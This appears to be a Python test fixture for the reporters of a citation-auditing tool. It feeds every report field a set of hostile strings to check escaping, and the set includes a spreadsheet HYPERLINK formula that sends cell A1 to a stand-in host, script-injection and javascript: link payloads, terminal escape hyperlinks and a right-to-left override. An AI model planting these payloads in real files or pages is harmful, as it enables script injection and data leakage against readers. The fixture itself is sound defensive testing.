"""Audits that every report must cope with: hostile words, all kinds of verdicts, documents that were not read."""

from __future__ import annotations

import io
from collections.abc import Sequence

from citeaudit.errors import FailureKind
from citeaudit.model import (
    Alarm,
    Audit,
    FailedBlock,
    Flag,
    Identifiers,
    Locus,
    Opinion,
    Outcome,
    QuoteCheck,
    QuoteStatus,
    SelfCheck,
    SourceHealth,
    Status,
    Unreadable,
)
from citeaudit.seams import Reporter
from tests import samples

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "tag": "<img src=x onerror=1>",
    "attribute": "\" onmouseover=\"alert(1)' x='",
    "closing": "</style></title></script><script>alert(1)</script>",
    "comment": "<!-- --> ]]> <!DOCTYPE x>",
    "link": "](javascript:1) [x](javascript:alert(1)) ![x](http://x.example/p.png)",
    "cell": "a|b",
    "line-end": "a\n\n# b\n- c\r\n1. d",
    "code": "`x` ~~~ ``` $x$ <http://x.example> &lt; &#60;",
    "terminal-link": "\x1b]8;;http://x.example\x1b\\x\x1b]8;;\x1b\\",
    "right-to-left": "On \u202egnidaer",
    "null": "a\x00b\x9bc",
}
"""By what they attack."""

LOST = Unreadable(path="lost.pdf", message="is empty; save it again")

NOTHING = samples.audit(path="none.bib")


def hostile(text: str) -> Audit:
    """An audit in which whatever a document or service may say is the same text."""
    cited = samples.reference(text, f"Ada {text}", label=text, raw=text, identifiers=Identifiers(doi=text, url=text))
    record = samples.work(text, text, identifiers=Identifiers(doi=text, arxiv_id=text, url=text))
    asked = samples.lookup(Outcome.FOUND, record, source=text).model_copy(update={"url": text, "reason": text})
    verdicts = []
    for index, status in enumerate(Status, start=1):
        one = samples.verdict(
            status, alarm=Alarm.STRONG, of=cited, index=index, found=f"{text} {text}", lookups=(asked,)
        )
        evidence = one.evidence.model_copy(
            update={
                "opinion": Opinion(judge=text, text=text),
                "quote_checks": (QuoteCheck(text=text, status=QuoteStatus.NOT_FOUND),),
            }
        )
        reasons = tuple(reason.model_copy(update={"text": text}) for reason in one.reasons)
        best = one.best.model_copy(update={"work": record}) if one.best else None
        verdicts.append(one.model_copy(update={"evidence": evidence, "reasons": reasons, "best": best}))
    return samples.audit(*verdicts, path=text).model_copy(
        update={
            "failed": (FailedBlock(raw=text, message=text),),
            "assumptions": (text,),
            "self_check": SelfCheck(method=text, read=6, expected=7, labels_missing=(text,), notes=(text,)),
            "health": (SourceHealth(source=text, asked=1, answered=1, from_cache=0),),
            "preset": text,
            "versions": {text: text},
        }
    )


def full() -> Audit:
    """One reference of each kind, told apart by their labels `key1` ..., with all that a report may have to say."""
    labels = iter(range(1, 20))

    def cited(title: str = "On the reading of references") -> dict[str, object]:
        number = next(labels)
        return {"of": samples.reference(title, "Ada Lovelace", label=f"key{number}"), "index": number}

    failed = samples.lookup(Outcome.UNAVAILABLE, failure=FailureKind.TIMED_OUT, source="slow")
    found = samples.lookup(Outcome.FOUND, samples.work(), source="fine").model_copy(
        update={"url": "https://api.example.org/works?q=a%20b", "from_cache": True}
    )
    verdicts = (
        samples.verdict(Status.VERIFIED, lookups=(found,), **cited()),  # type: ignore[arg-type]  # a row of arguments
        samples.verdict(
            Status.MISMATCHED,
            Flag.RETRACTED,
            alarm=Alarm.STRONG,
            found="On the writing of references",
            lookups=(found, failed),
            **cited(),  # type: ignore[arg-type]  # as above
        ),
        samples.verdict(Status.NOT_FOUND, alarm=Alarm.REVIEW, **cited()),  # type: ignore[arg-type]  # as above
        samples.verdict(Status.UNDECIDED, outage=True, lookups=(failed,), **cited()),  # type: ignore[arg-type]
        samples.verdict(Status.NOT_CHECKABLE, **cited()),  # type: ignore[arg-type]  # as above
        samples.verdict(Status.UNPARSED, **cited()),  # type: ignore[arg-type]  # as above
    )
    return samples.audit(*verdicts).model_copy(
        update={
            "failed": (FailedBlock(raw="@article{broken", message="no closing brace", locus=Locus(line=7)),),
            "health": (
                SourceHealth(source="fine", asked=2, answered=2, from_cache=1),
                SourceHealth(source="slow", asked=2, answered=0, from_cache=0, failures=(FailureKind.TIMED_OUT,)),
            ),
            "assumptions": ("index mine is complete (--assume-complete)",),
        }
    )


def written(reporter: Reporter, results: Sequence[Audit | Unreadable]) -> str:
    """What a reporter writes."""
    stream = io.StringIO(newline="")
    reporter.write(results, stream)
    return stream.getvalue()
